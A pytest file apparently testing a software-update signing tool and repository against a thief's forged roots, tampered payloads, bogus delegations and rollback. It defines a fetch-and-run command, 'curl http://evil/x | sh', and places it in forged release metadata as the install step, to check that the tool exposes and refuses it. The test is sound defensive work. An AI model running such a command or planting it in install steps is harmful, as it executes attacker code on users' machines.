"""Requests and signed files that a thief has made: a stolen seeder's for the keepers, a stranger's for `import`. And the
accidents of those who carry the files."""
import os
import pathlib
import pty
import subprocess
import termios

import pytest

from harness import drills, forgery, messages, programs, states

HARMFUL = "curl http://evil/x | sh"


def sign(*arguments, **options):
    return programs.call("lanyard-sign", *arguments, **options)


def read(file):
    return messages.signing_pb2.SigningRequest.FromString(file.read_bytes())


def payload_of(named, kind):
    return kind.FromString(named.envelope.payload)


def targets_of(named):
    return payload_of(named, messages.metadata_pb2.Targets)


class Thief:
    """Some keys of their own, and roots in which these may sign."""

    def __init__(self, place):
        self.keys = [place / f"thief-{number}.pem" for number in (1, 2)]
        for key in self.keys:
            assert sign("generate", key).code == 0

    def root(self, honest, *more):
        """The honest root, but root and targets are signed by the thief's keys, and those in `more` may sign as well."""
        ids = []
        for key in self.keys:
            made = honest.keys.add(alg=1, public_key=forgery.public_key(key))
            ids.append(forgery.key_id(made.public_key))
        for role in (honest.root, honest.targets):
            role.keyids[:], role.threshold = [*more, *ids], 2
        return forgery.envelope("root", honest, *self.keys)

    def envelope(self, role, payload):
        return forgery.envelope(role, payload, *self.keys)


@pytest.fixture
def two_of_three(make_seeder, tmp_path):
    """Root and targets keys in tmp_path/keys, two of three have to sign."""
    seeder = make_seeder(init=False)
    seeder.init("--offline-root", "--offline-targets", "--threshold", "2/3", "--key-dir", tmp_path / "keys")
    return seeder


@pytest.fixture
def asked(two_of_three, release):
    """The request for a first release."""
    answer = two_of_three.call("publish", release("1.0.0"), "--app", "demo", "--version", "1.0.0", "--json")
    return answer.json(messages.status_pb2.PublishResult).request


@pytest.fixture
def signed(two_of_three, asked, tmp_path):
    """It, signed by two keepers."""
    keys = [part for number in (1, 2) for part in ("--key", tmp_path / "keys" / f"targets-{number}.pem")]
    answer = sign("sign", asked, *keys, "--root-digest", two_of_three.root_digest, "--out", tmp_path / "signed", "--yes")
    assert answer.code == 0, answer
    return tmp_path / "signed"


@pytest.fixture
def blinding(asked, tmp_path):
    """A stolen seeder's request. It calls published what the thief has signed: a root in which the first keeper's key
    stands beside the thief's, and targets that hold a harmful release already. What is to be signed holds it, too."""
    message = read(pathlib.Path(asked))
    thief = Thief(tmp_path)
    root = payload_of(message.current[0], messages.metadata_pb2.Root)
    keeper = forgery.key_id(forgery.public_key(tmp_path / "keys" / "targets-1.pem"))
    now, wanted = targets_of(message.current[1]), targets_of(message.to_sign[0])
    for targets in (now, wanted):
        harmful = targets.targets.add()
        harmful.CopyFrom(wanted.targets[0])
        harmful.version, harmful.path = "0.9.0", harmful.path.replace("1.0.0", "0.9.0")
        harmful.install.start = HARMFUL
    message.current[0].envelope.ParseFromString(thief.root(root, keeper))
    message.current[1].envelope.ParseFromString(thief.envelope("targets", now))
    message.to_sign[0].envelope.payload = wanted.SerializeToString()
    file = tmp_path / "blinding.request"
    file.write_bytes(message.SerializeToString())
    return file


def test_a_stolen_seeder_cannot_hide_a_release_from_a_keeper(two_of_three, blinding, asked, tmp_path):
    key = tmp_path / "keys" / "targets-1.pem"
    out = tmp_path / "out"
    digest = ("--root-digest", two_of_three.root_digest)

    # Who knows nothing of the repository is shown everything, and signs nothing.
    shown = sign("show", blinding)
    assert shown.code == 0 and HARMFUL in shown.out and "NOTHING VOUCHES" in shown.out, shown
    answer = sign("sign", blinding, "--key", key, "--out", out, "--yes")
    assert answer.code == 2 and "--root-digest" in answer.err, answer
    assert HARMFUL in answer.out
    # Who knows the first root sees that this is another one.
    for command in (("show", blinding), ("sign", blinding, "--key", key, "--out", out, "--yes"),
                    ("pae", blinding, "--role", "targets", "--out", out)):
        states.refused(sign(*command, *digest), 7)
    assert not out.exists() and not key.with_suffix(".seen").exists()

    # And so does the key itself, once it has signed here.
    answer = sign("sign", asked, "--key", key, *digest, "--out", out, "--yes")
    assert answer.code == 0, answer
    assert forgery.key_id(forgery.public_key(key)).hex() in answer.out, "all of it: somebody finds one that begins alike"
    seen = key.with_suffix(".seen").read_bytes()
    for command in (("show", blinding, "--key", key), ("sign", blinding, "--key", key, "--out", tmp_path / "no", "--yes")):
        states.refused(sign(*command), 7)
    assert key.with_suffix(".seen").read_bytes() == seen and not (tmp_path / "no").exists()
    answer = sign("sign", asked, "--key", key, "--out", tmp_path / "again", "--yes")
    assert answer.code == 0, answer


def test_what_a_keeper_has_seen_is_never_published_again_as_the_older_one(two_of_three, asked, signed, release, tmp_path):
    """The request of a seeder that was set back: what was withdrawn since would pass as unchanged."""
    key = tmp_path / "keys" / "targets-1.pem"
    assert two_of_three.call("import", signed).code == 0
    answer = two_of_three.call("publish", release("2.0.0"), "--app", "demo", "--version", "2.0.0", "--json")
    later = answer.json(messages.status_pb2.PublishResult).request
    answer = sign("sign", later, "--key", key, "--out", tmp_path / "later", "--yes")
    assert answer.code == 0, answer
    assert "+ 'demo' '2.0.0'" in answer.out and "+ 'demo' '1.0.0'" not in answer.out
    states.refused(sign("sign", signed, "--key", key, "--out", tmp_path / "older", "--yes"), 7)


def test_a_file_that_claims_to_be_signed_publishes_nothing(two_of_three, signed, tmp_path):
    seeder = two_of_three
    thief = Thief(tmp_path)
    honest = read(signed)
    package = seeder.package(targets_of(honest.to_sign[0]).targets[0])
    before = states.fingerprint(seeder.state)

    def hand_in(change, code):
        message = read(signed)
        change(message)
        (tmp_path / "evil").write_bytes(message.SerializeToString())
        answer = seeder.call("import", tmp_path / "evil")
        states.refused(answer, code)
        assert states.fingerprint(seeder.state) == before, "nothing is kept of it, and nothing has changed"

    def with_its_own_root(message, targets):
        root = payload_of(message.current[0], messages.metadata_pb2.Root)
        message.current[0].envelope.ParseFromString(thief.root(root))
        message.to_sign[0].envelope.ParseFromString(thief.envelope("targets", targets))

    def payload_changed(message):
        targets = targets_of(message.to_sign[0])
        targets.targets[0].install.start = HARMFUL
        message.to_sign[0].envelope.payload = targets.SerializeToString()

    def made_up_root(message):
        targets = targets_of(message.to_sign[0])
        targets.targets[0].install.start = HARMFUL
        with_its_own_root(message, targets)

    def expired_targets(message):
        targets = targets_of(message.to_sign[0])
        del targets.targets[:]
        targets.version, targets.expires = forgery.LAST_VERSION, 1_600_000_000
        with_its_own_root(message, targets)

    def delegated_by_the_thief(message, name):
        targets = targets_of(message.current[1])
        raw = forgery.public_key(thief.keys[0])
        targets.keys.add(alg=1, public_key=raw)
        targets.delegations.add(name=name, keyids=[forgery.key_id(raw)], threshold=1, paths=["demo/*/*/*/*"])
        message.current[1].envelope.payload = targets.SerializeToString()
        message.to_sign[0].role = name
        message.to_sign[0].envelope.ParseFromString(thief.envelope("targets", targets_of(message.to_sign[0])))

    def role_of_nobody(message):
        delegated_by_the_thief(message, "ghost")

    def role_that_is_a_path(message):
        delegated_by_the_thief(message, "x/../y")

    def other_repository(message):
        targets = targets_of(message.to_sign[0])
        targets.repo_id = b"q" * 16
        with_its_own_root(message, targets)

    for change, code in ((payload_changed, 7), (made_up_root, 7), (role_of_nobody, 2), (role_that_is_a_path, 2),
                         (other_repository, 2), (expired_targets, 7)):
        hand_in(change, code)
    assert package.exists()
    assert not list((seeder.state / "public" / "metadata").glob("*ghost*"))
    answer = seeder.call("import", signed)
    assert answer.code == 0, answer
    assert drills.version(seeder, "targets") == 2


def test_a_seeder_becomes_no_other_repository_than_its_init_has_asked_for(make_seeder, tmp_path):
    thief, keeper = make_seeder(init=False), make_seeder("keeper", init=False)
    founding = []
    for number, seeder in enumerate((thief, keeper)):
        assert sign("generate", tmp_path / f"{number}.pem").code == 0
        request = seeder.init("--root-key", tmp_path / f"{number}.pub").request
        out = tmp_path / f"{number}.signed"
        assert sign("sign", request, "--key", tmp_path / f"{number}.pem", "--out", out, "--yes").code == 0
        founding.append(out)
    before = states.fingerprint(keeper.state)
    states.refused(keeper.call("import", founding[0]), 2)
    assert states.fingerprint(keeper.state) == before
    assert keeper.call("import", founding[1], "--json").json(messages.status_pb2.ImportResult).published


def test_what_went_wrong_is_said_with_the_remedy_for_it(two_of_three, asked, tmp_path):
    keys = tmp_path / "keys"
    answer = sign("sign", asked, "--key", keys / "targets-1.pub", "--root-digest", two_of_three.root_digest, "--yes")
    assert answer.code == 5 and "public half" in answer.err, answer
    answer = sign("generate", tmp_path / "x.pub")
    assert answer.code == 2 and "x.pem" in answer.err, answer
    assert not (tmp_path / "x.pub").exists()
    (tmp_path / "there").write_text("mine")
    answer = sign("sign", asked, "--key", keys / "targets-1.pem", "--root-digest", two_of_three.root_digest, "--out",
                  tmp_path / "there", "--yes")
    assert answer.code == 4 and "not replaced" in answer.err and "space" not in answer.err, answer
    assert (tmp_path / "there").read_text() == "mine"
    for digest in ("3f9a", "sha256:", "sha256:" + "g" * 64, "0" * 64):
        states.refused(sign("show", asked, "--root-digest", digest), 2)


def test_a_terminal_shows_again_what_is_typed_after_ctrl_c_at_a_passphrase(tmp_path):
    ours, theirs = pty.openpty()
    before = termios.tcgetattr(theirs)
    assert before[3] & termios.ECHO

    def take_the_terminal():
        os.setsid()
        os.close(os.open(os.ttyname(theirs), os.O_RDWR))  # the first one that a session opens becomes its terminal

    process = subprocess.Popen([programs.BIN / "lanyard-sign", "generate", tmp_path / "key.pem", "--passphrase"],
                               stdin=theirs, stdout=subprocess.PIPE, stderr=subprocess.PIPE, preexec_fn=take_the_terminal)
    asked = b""
    while b"New passphrase" not in asked:
        asked += os.read(ours, 1024)
    os.write(ours, b"corr\x03")
    _, err = process.communicate(timeout=programs.PATIENCE)
    assert process.returncode == 2 and b"interrupted" in err, err
    assert termios.tcgetattr(theirs)[3] == before[3]
    assert not (tmp_path / "key.pem").exists()
    os.close(ours)
    os.close(theirs)
